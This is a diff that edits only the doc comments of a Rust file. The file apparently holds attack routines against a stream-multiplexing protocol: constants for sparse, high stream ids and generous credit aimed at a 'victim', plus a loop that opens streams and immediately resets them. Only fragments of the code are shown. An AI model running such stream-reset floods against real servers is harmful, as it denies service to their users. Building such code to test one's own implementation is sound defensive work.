@@ -10,20 +10,20 @@ use super::{
     raw::{Raw, WINDOW, varints},
 };
 
-/// Much less than the victim's limit on streams.
+/// How many streams are open at the same time, far fewer than the victim permits.
 const AT_ONCE: u64 = 50;
 /// The distance between ids. There are 2^61 ids, and with this distance the attack's ids spread
 /// over half of them. All their low bits are the same.
 const SPARSE: u64 = 1 << 40;
-/// Below the largest valid id.
+/// An id below the largest valid one.
 const HIGH: u64 = 1 << 60;
-/// More credit than is ever used.
+/// The credit that is granted on each stream, which is more than is ever used.
 const CREDIT: u32 = WINDOW as u32;
 
 const READ: u8 = 0;
 const WRITE: u8 = 1;
 
-/// SPEC.md section 7.1.
+/// Returns a message as SPEC.md §7.1 defines it.
 fn message(id: u64, kind: u8, payload: &[u8]) -> Vec<u8> {
     let mut message = Vec::with_capacity(payload.len() + 10);
     varints(&mut message, &[id]);
@@ -80,7 +80,7 @@ async fn same(raw: &mut Raw, message: &[u8]) -> Result<Infallible> {
     }
 }
 
-/// The message after the one that opens a stream resets and stops it.
+/// Opens streams; the message after the one that opens a stream resets and stops it.
 async fn open_reset(raw: &mut Raw) -> Result<Infallible> {
     for id in (0..).step_by(2) {
         raw.send(ack(id, CREDIT)).await?;
